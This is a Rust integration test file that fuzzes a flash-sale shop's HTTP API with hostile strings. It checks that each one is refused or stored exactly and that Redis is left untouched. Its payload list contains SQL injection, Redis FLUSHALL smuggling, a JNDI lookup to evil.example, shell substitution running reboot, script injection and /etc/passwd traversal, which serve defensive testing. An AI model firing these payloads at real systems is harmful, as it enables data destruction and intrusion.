use std::time::Duration;

use reqwest::Method;
use serde_json::{Value, json};
use stampede_tests::{Counters, ItemTerms, Response, World, eventually, orders_in};

/// Texts with a special meaning in Redis, Lua, SQL, JSON, HTML, a shell, a template or a terminal.
const WORDS: [&str; 26] = [
    "'\"`\\",
    "{}:{x}:lane",
    "{i2222222222:0}:orders",
    "a|b|c|1|2",
    "*",
    "?[^a]",
    "line\r\nSET x 1\r\n",
    "*1\r\n$8\r\nFLUSHALL\r\n",
    "$-1\r\n",
    "nul\u{0}byte",
    "escape\u{1b}[2J",
    "'; DROP TABLE orders; --",
    "' OR '1'='1",
    "return redis.call('FLUSHALL')",
    "%1 %s %n %",
    "{{ session_secret }}",
    "${jndi:ldap://evil.example/a}",
    "$(reboot)`reboot`",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "r-i2222222222-0-222222222222",
    "\u{feff}\u{202e}drowssap\u{200b}",
    "e\u{301}\u{1f469}\u{200d}\u{1f680}\u{10ffff}",
    "__proto__",
    "-1",
    "NaN",
];

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[track_caller]
fn assert_harmless(what: &str, response: &Response) {
    assert!(response.status < 500, "{what:?}: {response}");
    assert!(!String::from_utf8_lossy(&response.body).contains("redis.call("), "{what:?}: {response}");
}

/// Fails if Redis has a key that is not one of ours.
async fn assert_keys_are_ours(world: &World) {
    let keys: Vec<String> = world.redis.command(&["KEYS", "*"]).await;
    for key in keys {
        let plain =
            |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || b"{}:_./-".contains(&byte);
        assert!(key.bytes().all(plain) && key.starts_with('{'), "a key of somebody else's making: {key:?}");
    }
}

#[tokio::test]
async fn no_id_is_anything_but_an_id() {
    let (world, item) = World::selling(5).await;
    let shopper = world.shopper().await;
    let document = world.client().get("/api/openapi.json").send().await.expect(200);
    let long = "i".repeat(20_000);
    let mut tried = 0;
    for (template, operations) in document["paths"].as_object().unwrap() {
        if !template.contains('{') {
            continue;
        }
        let who = if template.starts_with("/api/admin") {
            world.seller().client().clone()
        } else {
            shopper.client().clone()
        };
        let raw = ["%", "%zz", "%00", "*", "i*", "{x}", "a:b", "~", "i22222222222", "", long.as_str()];
        let words = WORDS.iter().map(|word| percent(word)).chain(raw.map(str::to_owned));
        for word in words {
            let path: Vec<String> = template
                .split('/')
                .map(|part| if part.starts_with('{') { word.clone() } else { part.to_owned() })
                .collect();
            for method in
                ["get", "post", "put", "delete"].into_iter().filter(|method| operations.get(method).is_some())
            {
                let method = Method::from_bytes(method.to_uppercase().as_bytes()).unwrap();
                let request = who.request(method, &path.join("/")).header("if-match", "\"1\"");
                let response = request.json(&json!({})).send().await;
                assert_harmless(&word, &response);
                // A shop that issues the tokens may name a shopper by almost any word. Nobody of that name has an order.
                let is_nobody = template == "/api/admin/shoppers/{user}/personal-data"
                    && response.status == 200
                    && response.json()["orders"] == 0;
                assert!((400..500).contains(&response.status) || is_nobody, "{word:?}: {response}");
                tried += 1;
            }
        }
    }
    assert!(tried > 500, "only {tried} were tried");
    assert_keys_are_ours(&world).await;
    world.seller().expect_counters(&item, Counters::untouched(5)).await;
}

#[tokio::test]
async fn what_a_shopper_writes_is_kept_to_the_letter_or_refused() {
    let world = World::start().await;
    let seller = world.seller();
    let mut kept = 0;
    for word in WORDS {
        let item = seller.publish(&ItemTerms::of(1)).await;
        let shopper = world.shopper().await;
        // The challenge and its solution first: both are texts from the shopper.
        for body in [
            json!({ "challenge": word, "answer": word, "quantity": 1 }),
            json!({ "challenge": word, "answer": word, "quantity": word }),
            json!({ word: word }),
        ] {
            let response = shopper.ask_reservation(&item, &body).await;
            assert!(matches!(response.status, 400 | 422), "{word:?}: {response}");
        }
        let solved = shopper.solved_challenge(&item).await.unwrap();
        let body = json!({ "challenge": solved["challenge"], "answer": word, "quantity": 1 });
        shopper.ask_reservation(&item, &body).await.expect_problem(422, "challenge-failed");

        let held = shopper.hold(&item).await;
        let path = format!("/api/reservations/{}/checkout", held["id"].as_str().unwrap());
        let body = json!({ "contact": format!("c {word}"), "address": format!("a {word}"), "note": word });
        let response = shopper.client().post(&path).json(&body).send().await;
        let has_control = word.chars().any(|c| c.is_control() && !"\r\n\t".contains(c));
        assert_eq!(response.status, if has_control { 422 } else { 201 }, "{word:?}: {response}");
        if response.status == 201 {
            let order = response.json()["id"].as_str().unwrap().to_owned();
            let shown = shopper.client().get(&format!("/api/orders/{order}")).send().await.expect(200);
            for (field, sent) in body.as_object().unwrap() {
                assert_eq!(shown[field], sent.as_str().unwrap().trim(), "{word:?}");
            }
            kept += 1;
        }
    }
    // Each of them is in the database too, as an order like any other.
    eventually("the database has every order", Duration::from_secs(30), async || {
        (orders_in(world.state_folder()).len() == kept).then_some(())
    })
    .await;
    assert!(kept >= 20, "only {kept} were kept");
    assert_keys_are_ours(&world).await;
}

#[tokio::test]
async fn what_an_operator_writes_is_shown_to_the_letter_or_refused() {
    let world = World::start().await;
    let seller = world.seller();
    let sale = seller.sale().await;
    for word in WORDS {
        for field in ["title", "subtitle", "description", "image", "mode", "starts_at"] {
            let mut body = ItemTerms::of(1).body();
            body[field] = json!(word);
            let response =
                seller.client().post(&format!("/api/admin/sales/{sale}/items")).json(&body).send().await;
            assert!(matches!(response.status, 201 | 422), "{field}={word:?}: {response}");
            if response.status == 201 {
                assert_eq!(response.json()[field], word);
                let id = response.json()["id"].as_str().unwrap().to_owned();
                seller.client().post(&format!("/api/admin/items/{id}/publish")).send().await.expect(200);
                let shown = world.client().get(&format!("/api/items/{id}")).send().await.expect(200);
                assert_eq!(shown[field], word);
            }
        }
        let user = format!("/api/admin/blocklist/user/{}", percent(word));
        assert_harmless(word, &seller.client().put(&user).send().await);
        let query = format!("/api/sales?q={}", percent(word));
        let found = world.client().get(&query).send().await;
        assert!(matches!(found.status, 200 | 400 | 422), "{word:?}: {found}");
    }
    assert_keys_are_ours(&world).await;
}

#[tokio::test]
async fn long_texts_are_refused_before_they_cost_anything() {
    let (world, item) = World::selling(1).await;
    let shopper = world.shopper().await;
    for length in [600, 15_000, 64 * 1024, 1024 * 1024] {
        let text = "中".repeat(length / 3);
        for body in [json!({ "challenge": text, "answer": "1" }), json!({ "challenge": "x", "answer": text })]
        {
            let response = shopper.ask_reservation(&item, &body).await;
            assert!(matches!(response.status, 413 | 422), "{length}: {}", response.status);
        }
    }
    let held = shopper.hold(&item).await;
    let path = format!("/api/reservations/{}/checkout", held["id"].as_str().unwrap());
    for (length, status) in [(501, 422), (64 * 1024, 413)] {
        let body = json!({ "contact": "c", "address": "a", "note": "x".repeat(length) });
        let response = shopper.client().post(&path).json(&body).send().await;
        assert_eq!(response.status, status, "{length}");
    }
    for query in [format!("q={}", "x".repeat(30_000)), "a=&".repeat(5_000), "q=%F0%9F".to_owned()] {
        let response = world.client().get(&format!("/api/sales?{query}")).send().await;
        assert!((400..500).contains(&response.status), "{}", response.status);
    }
    let deep: Value = (0..100).fold(json!(1), |inner, _| json!({ "a": inner }));
    shopper.client().post(&path).json(&deep).send().await.expect_problem(400, "malformed");
}
